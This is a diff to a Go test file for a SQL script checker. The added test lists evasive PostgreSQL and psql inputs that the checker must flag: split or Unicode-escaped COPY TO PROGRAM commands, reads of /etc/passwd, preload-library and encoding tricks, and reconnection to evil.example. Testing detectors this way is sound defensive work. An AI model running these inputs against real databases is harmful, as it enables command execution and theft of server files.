@@ -72,6 +72,45 @@ func TestWhatLeadsOutOfTheDatabaseIsFound(t *testing.T) {
 	}
 }
 
+// What makes another text of a script for the server, or for psql, than the one that is looked at.
+func TestWhatIsWrittenSoAsNotToBeFoundIsFound(t *testing.T) {
+	for _, sql := range []string{
+		"DO $$ BEGIN EXECUTE 'COPY t TO PRO'\n'GRAM ''id'''; END $$",
+		"DO 'BEGIN COPY t TO PRO'\n  'GRAM ''''id''''; END'",
+		"DO $$ BEGIN EXECUTE E'COPY t TO PRO'\n'GRAM \\'id\\''; END $$",
+		"DO E'BEGIN PERFORM pg_read_'\n'file(1); END'",
+		"SELECT set_config('session_preload'\n'_libraries', 'x', false)",
+		"SELECT set_config('session_preload' || '_libraries', 'x', false)",
+		"UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'",
+		"UPDATE pg_settings SET setting = 'off' WHERE name LIKE 'standard_conforming_str%'",
+		"SET client_encoding = 'SJIS'", "SET NAMES 'SJIS'", "set client_encoding to gbk", "SELECT set_config('client_encoding', 'big5', false)", "\\encoding SJIS",
+		"ALTER ROLE postgres SET client_encoding = uhc",
+		"\\set q COPY ' t TO PRO' 'GRAM ' '''id'''\n:q;",
+		"\\set a pg_ read_file\nSELECT :a('/etc/passwd')",
+		"SELECT 'pg_'||'read_file' AS q \\gset",
+		"\\set SINGLELINE on",
+		"\\connect \"host=evil.example dbname=x\"", "\\c postgresql://evil/x", "\\c naap postgres evil.example 5432",
+		"COPY t FROM stdin;\nit's\n\\.\nCOPY t TO PROGRAM 'id';\n-- '",
+		"CREATE FUNCTION f() RETURNS void LANGUAGE plperl AS $$ spi_exec_query(\"COPY t TO PROGRAM 'id'\") $$",
+		"CREATE FUNCTION f() RETURNS void LANGUAGE plv8 AS $$ plv8.execute(`COPY t TO PROGRAM 'id'`) $$",
+		"COPY pg_catalog.pg_proc FROM stdin", "COPY pg_language (lanpltrusted) FROM stdin", "UPDATE pg_operator SET oprcode = 1", "MERGE INTO pg_proc USING t ON true WHEN MATCHED THEN UPDATE SET prosrc = 'x'",
+		"SELECT * FROM crosstab('SELECT pg_read_file(''x'')')", "SELECT connectby('x', 'COPY', 'pg_read_file(1)')",
+		"SELECT pg_copy_logical_replication_slot('a', 'b', false, '/tmp/x')",
+		"SET \"session_preload_libraries\" = 'x'", "SET SESSION PRELOAD_LIBRARIES = x", "DO LANGUAGE 'plperlu' 'x'",
+		"SELECT 1;;DO $a$ begin execute $b$ copy t to program $c$id$c$ $b$; end $a$",
+		"COPY t FROM U&'/etc/p\\0061sswd'", "COPY t FROM -- x\nPROGRAM 'id'", "DO $$ BEGIN EXECUTE U&'COPY t TO \\0050ROGRAM ''id'''; END $$",
+		"SELECT lo_import ('/etc/passwd')", "SELECT (pg_read_file)('/x')", "CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION pg_read_file()",
+		"ALTER DATABASE naap SET \"local_preload_libraries\" FROM CURRENT", "CREATE EXTENSION \"plpython3u\"", "IMPORT/**/FOREIGN SCHEMA x FROM SERVER s INTO y",
+		"GRANT \"pg_read_server_files\" TO x",
+		"SET client_encoding = WIN932", "\\encoding 'GB18030'", "COPY t FROM stdin;\n1\n\\.\nSELECT pg_read_file('x')",
+		"COPY missing FROM stdin;\nSELECT pg_read_file('x');\n\\.\n",
+	} {
+		if len(FindOutward(sql)) == 0 {
+			t.Errorf("nothing is said of %s", sql)
+		}
+	}
+}
+
 // What developers' scripts are full of, and data that only speaks of such things.
 func TestWhatStaysInTheDatabaseIsLeftAlone(t *testing.T) {
 	for _, sql := range []string{
@@ -95,7 +134,9 @@ func TestWhatStaysInTheDatabaseIsLeftAlone(t *testing.T) {
 		`SELECT * FROM pg_proc JOIN pg_language l ON l.oid = prolang`, `COMMENT ON LANGUAGE plpgsql IS 'x'`,
 		`CREATE TABLE "copy" (id int, "from" text, program text)`, `UPDATE t SET program = 'x' WHERE "from" = 'y'`,
 		`\connect naap`, `\echo hello`, `\restrict abc`, `SELECT '\! id'`,
-		`-- COPY t FROM PROGRAM 'id'` + "\nSELECT 1",
+		`-- COPY t FROM PROGRAM 'id'` + "\nSELECT 1", `\connect my-db`, `\c naap postgres`, `\set ON_ERROR_STOP on`, `\encoding UTF-8`,
+		`SET client_encoding = 'UTF8'`, `SET NAMES 'latin1'`, `SELECT 'a' || 'b'`, "INSERT INTO t VALUES ('COPY t TO PRO'\n'GRAM')",
+		`CREATE TABLE names (names text)`, `UPDATE t SET names = 'gbk' WHERE names = 'x'`,
 		``,
 	} {
 		if why := WhyOutward(sql); why != "" {
